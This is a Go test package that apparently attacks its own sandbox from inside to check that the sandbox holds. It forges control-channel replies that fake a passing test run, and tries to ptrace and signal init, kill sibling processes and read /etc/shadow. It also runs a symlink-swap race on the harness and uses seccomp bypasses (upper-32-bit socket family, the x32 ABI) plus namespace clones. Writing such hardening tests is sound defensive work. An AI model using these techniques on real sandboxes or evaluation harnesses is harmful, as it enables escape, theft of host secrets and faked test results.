// Package intruder is compiled by the sandbox tests into a Go test binary
// whose init attacks the box from inside, the way hostile code under test
// would. It prints one "BREACH: ..." line for every attack that worked and
// "held: ..." for every one that did not. Attacks are chosen with
// SANDGATE_ATTACK (comma-separated).
package intruder

import (
	"encoding/base64"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"unsafe"
)

func init() {
	for _, a := range strings.Split(os.Getenv("SANDGATE_ATTACK"), ",") {
		switch a {
		case "channel":
			attackChannel()
		case "init":
			attackInit()
		case "siblings":
			attackSiblings()
		case "secrets":
			attackSecrets()
		case "swap":
			attackSwap()
		case "compat":
			attackCompat()
		case "vsock":
			attackVsock()
		case "clone":
			attackClone()
		}
	}
	os.Exit(0)
}

func TestNothing(t *testing.T) {}

func report(worked bool, what string, args ...any) {
	if worked {
		fmt.Printf("BREACH: "+what+"\n", args...)
	} else {
		fmt.Printf("held: "+what+"\n", args...)
	}
}

// forged is a reply claiming request id passed, with a passing go test log.
func forged(id int) []byte {
	out := base64.StdEncoding.EncodeToString([]byte(`{"Action":"pass","Package":"calc","Test":"TestAdd"}` + "\n"))
	return []byte(fmt.Sprintf(`{"id":%d,"result":{"exit_code":0,"output":%q}}`+"\n", id, out))
}

// writeForgeries writes forged replies for request ids 1..64 to fd.
func writeForgeries(fd int) bool {
	ok := false
	for id := 1; id <= 64; id++ {
		if _, err := syscall.Write(fd, forged(id)); err == nil {
			ok = true
		}
	}
	return ok
}

// attackChannel looks for the box's control socket everywhere a command
// could: inherited descriptors, /proc/*/fd, and pidfd_getfd on every
// process it can name; whatever it finds gets forged replies.
func attackChannel() {
	for fd := 3; fd < 1024; fd++ {
		var st syscall.Stat_t
		if syscall.Fstat(fd, &st) == nil && st.Mode&syscall.S_IFMT == syscall.S_IFSOCK {
			report(writeForgeries(fd), "inherited socket fd %d written to", fd)
		}
	}
	fds, _ := filepath.Glob("/proc/[0-9]*/fd/*")
	for _, p := range fds {
		if ours(strings.Split(p, "/")[2]) {
			continue
		}
		if fd, err := syscall.Open(p, syscall.O_RDWR, 0); err == nil {
			report(writeForgeries(fd), "opened %s", p)
		}
	}
	for pid := 1; pid < 4096; pid++ {
		pidfd, _, errno := syscall.Syscall(434 /* pidfd_open */, uintptr(pid), 0, 0)
		if errno != 0 {
			continue
		}
		for target := 0; target < 16; target++ {
			fd, _, errno := syscall.Syscall(438 /* pidfd_getfd */, pidfd, uintptr(target), 0)
			if errno == 0 {
				report(writeForgeries(int(fd)), "pidfd_getfd(pid %d, fd %d)", pid, target)
			}
		}
	}
	report(false, "no control channel reachable")
}

// ours reports whether pid (as /proc names it) belongs to the intruder's
// own command: every command is a session of its own.
func ours(pid string) bool {
	return session("self") == session(pid)
}

func session(pid string) string {
	b, _ := os.ReadFile("/proc/" + pid + "/stat")
	s := string(b)
	if i := strings.LastIndexByte(s, ')'); i >= 0 {
		if f := strings.Fields(s[i+1:]); len(f) > 3 {
			return f[3]
		}
	}
	return "?" + pid
}

// attackInit tries to see, read, trace and signal the box's init.
func attackInit() {
	_, err := os.Stat("/proc/1/status")
	report(err == nil, "init (/proc/1) visible")
	mems, _ := filepath.Glob("/proc/1/task/*/mem")
	for _, m := range mems {
		if f, err := os.Open(m); err == nil {
			report(true, "opened %s", m)
			f.Close()
		}
	}
	if _, err := os.ReadDir("/proc/1/fd"); err == nil {
		report(true, "listed /proc/1/fd")
	}
	if b, err := os.ReadFile("/proc/1/environ"); err == nil {
		report(true, "read init's environment (%d bytes)", len(b))
	}
	_, _, errno := syscall.Syscall(434, 1, 0, 0)
	report(errno == 0, "pidfd_open")
	_, _, errno = syscall.Syscall6(syscall.SYS_PTRACE, syscall.PTRACE_ATTACH, 1, 0, 0, 0, 0)
	report(errno == 0, "ptrace")
	var local, remote [1]syscall.Iovec
	buf := make([]byte, 8)
	local[0] = syscall.Iovec{Base: &buf[0], Len: 8}
	remote[0] = syscall.Iovec{Base: &buf[0], Len: 8}
	_, _, errno = syscall.Syscall6(310 /* process_vm_readv */, 1, uintptr(unsafe.Pointer(&local[0])), 1, uintptr(unsafe.Pointer(&remote[0])), 1, 0)
	report(errno == 0, "process_vm_readv")
	if d, err := syscall.Open("/proc/1", syscall.O_RDONLY|syscall.O_DIRECTORY, 0); err == nil {
		_, _, errno := syscall.Syscall6(424 /* pidfd_send_signal */, uintptr(d), uintptr(syscall.SIGSTOP), 0, 0, 0, 0)
		report(errno == 0, "stopped init through /proc/1")
	}
	_, _, errno = syscall.Syscall(425 /* io_uring_setup */, 1, uintptr(unsafe.Pointer(&[120]byte{})), 0)
	report(errno == 0, "io_uring_setup")
	report(false, "init unreachable")
}

// attackSiblings goes after every other process it can see: another node's
// command running in parallel (SANDGATE_VICTIM names its marker).
func attackSiblings() {
	marker := os.Getenv("SANDGATE_VICTIM")
	dirs, _ := filepath.Glob("/proc/[0-9]*")
	for _, d := range dirs {
		cmd, err := os.ReadFile(d + "/cmdline")
		if err != nil || ours(filepath.Base(d)) || !strings.Contains(string(cmd), marker) {
			continue
		}
		report(true, "saw the other command %s", d)
		if f, err := os.OpenFile(d+"/mem", os.O_RDWR, 0); err == nil {
			report(true, "opened %s/mem for writing", d)
			f.Close()
		}
		pid, _ := strconv.Atoi(filepath.Base(d))
		report(syscall.Kill(pid, syscall.SIGKILL) == nil, "killed %s", d)
	}
	report(false, "no other command reachable")
}

// attackSecrets reads host secrets and tries to gain privilege.
func attackSecrets() {
	for _, p := range []string{"/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/ssh", "/etc/machine-id", "/root", os.Getenv("SANDGATE_SECRET")} {
		if p == "" {
			continue
		}
		if _, err := os.Stat(p); err == nil {
			report(true, "%s visible", p)
		}
	}
	report(os.Getuid() == 0 || os.Geteuid() == 0, "running as uid %d", os.Getuid())
	report(syscall.Setuid(0) == nil, "setuid(0)")
	status, _ := os.ReadFile("/proc/self/status")
	// Commands of a harness that is not root run in a user namespace of
	// their own, whose bounding set the kernel fills: it is no way to a
	// capability while no_new_privs holds and nothing maps to its uid 0.
	uidMap, _ := os.ReadFile("/proc/self/uid_map")
	nested := !strings.HasPrefix(strings.TrimSpace(string(uidMap)), "0 ")
	if nested {
		report(!strings.Contains(string(status), "NoNewPrivs:\t1"), "a nested user namespace without no_new_privs")
	}
	for _, l := range strings.Split(string(status), "\n") {
		if nested && strings.HasPrefix(l, "CapBnd") {
			continue
		}
		if strings.HasPrefix(l, "Cap") {
			f := strings.Fields(l)
			report(len(f) == 2 && strings.Trim(f[1], "0") != "", "capability set %s", l)
		}
	}
}

// attackSwap races the harness while it reads the workspace's changes:
// /work/swap is, in turn, a directory holding a file named like a host
// secret and a symbolic link to the host directory holding that secret
// (SANDGATE_SWAP_DIR, SANDGATE_SWAP_FILE). A harness that follows the link
// on the host reads the secret as part of the change. It runs until
// /work/swap-stop appears.
func attackSwap() {
	dir, file := os.Getenv("SANDGATE_SWAP_DIR"), os.Getenv("SANDGATE_SWAP_FILE")
	if err := os.MkdirAll("/work/swap", 0o755); err != nil {
		report(true, "setup: %v", err)
		return
	}
	if err := os.WriteFile("/work/swap/"+file, []byte("decoy"), 0o644); err != nil {
		report(true, "setup: %v", err)
		return
	}
	if err := os.Symlink(dir, "/work/swap-link"); err != nil {
		report(true, "setup: %v", err)
		return
	}
	os.WriteFile("/work/swap-up", nil, 0o644)
	a, _ := syscall.BytePtrFromString("/work/swap")
	b, _ := syscall.BytePtrFromString("/work/swap-link")
	for n := 0; ; n++ {
		_, _, errno := syscall.Syscall6(316 /* renameat2 */, ^uintptr(99) /* AT_FDCWD */, uintptr(unsafe.Pointer(a)),
			^uintptr(99), uintptr(unsafe.Pointer(b)), 2 /* RENAME_EXCHANGE */, 0)
		if errno != 0 {
			report(true, "setup: renameat2: %v", errno)
			return
		}
		if n%1024 == 0 {
			if _, err := os.Stat("/work/swap-stop"); err == nil {
				break
			}
		}
	}
	// Leave the directory in place, so the change list has something.
	if st, _ := os.Lstat("/work/swap"); st.Mode()&os.ModeSymlink != 0 {
		syscall.Syscall6(316, ^uintptr(99), uintptr(unsafe.Pointer(a)), ^uintptr(99), uintptr(unsafe.Pointer(b)), 2, 0)
	}
	report(false, "swapped until told to stop")
}

// attackVsock opens an AF_VSOCK socket: vsock is not in the box's network
// namespace, so on a virtual machine it reaches the VM's host (and the
// host's own vsock listeners) whatever the allowlist says. Nothing is
// connected to: the socket is the breach.
func attackVsock() {
	fd, err := syscall.Socket(40 /* AF_VSOCK */, syscall.SOCK_STREAM, 0)
	if err == nil {
		syscall.Close(fd)
	}
	report(err == nil, "an AF_VSOCK socket (%v)", err)
	// The kernel takes the family as an int: the upper half of the
	// register is dropped after the filter has seen the whole of it.
	r, _, errno := syscall.RawSyscall(syscall.SYS_SOCKET, 1<<32|40, syscall.SOCK_STREAM, 0)
	if errno == 0 {
		syscall.Close(int(r))
	}
	report(errno == 0, "an AF_VSOCK socket with the family's upper 32 bits set (%v)", errno)
	// socketpair creates its sockets of the family before the family
	// says it has no pairs; and the x32 ABI (the number's bit 30) shares
	// the native architecture's audit id.
	var pair [2]int32
	_, _, errno = syscall.RawSyscall6(syscall.SYS_SOCKETPAIR, 1<<32|40, syscall.SOCK_STREAM, 0, uintptr(unsafe.Pointer(&pair)), 0, 0)
	if errno == 0 {
		syscall.Close(int(pair[0]))
		syscall.Close(int(pair[1]))
	}
	report(errno == 0, "an AF_VSOCK socket pair (%v)", errno)
	if syscall.SYS_SOCKET == 41 { // amd64
		r, _, errno = syscall.RawSyscall(0x40000000|41, 40, syscall.SOCK_STREAM, 0)
		if errno == 0 {
			syscall.Close(int(r))
		}
		report(errno == 0, "an AF_VSOCK socket through the x32 ABI (%v)", errno)
	}
}

// attackClone starts a process in new namespaces through the native
// clone(2), whose flags the filter reads (a user namespace's capabilities
// would let the command mount, make network devices, and reach kernel
// code a box keeps closed). A user namespace alone is allowed only where
// every command already runs in one of its own (SANDGATE_NESTED=1: a
// harness that is not root); with another namespace it never is.
func attackClone() {
	for _, c := range []struct {
		name  string
		flags uintptr
	}{
		{"user", syscall.CLONE_NEWUSER},
		{"user+mount", syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS},
		{"user+network", syscall.CLONE_NEWUSER | syscall.CLONE_NEWNET},
		{"user+ipc", syscall.CLONE_NEWUSER | syscall.CLONE_NEWIPC},
		{"user+uts", syscall.CLONE_NEWUSER | syscall.CLONE_NEWUTS},
		{"user+cgroup", syscall.CLONE_NEWUSER | 0x02000000 /* CLONE_NEWCGROUP */},
	} {
		if c.flags == syscall.CLONE_NEWUSER && os.Getenv("SANDGATE_NESTED") == "1" {
			continue
		}
		pid, err := syscall.ForkExec("/bin/true", []string{"true"}, &syscall.ProcAttr{
			Sys: &syscall.SysProcAttr{Cloneflags: c.flags}})
		if err == nil {
			var ws syscall.WaitStatus
			syscall.Wait4(pid, &ws, 0, nil)
		}
		report(err == nil, "clone into a new %s namespace (%v)", c.name, err)
	}
}
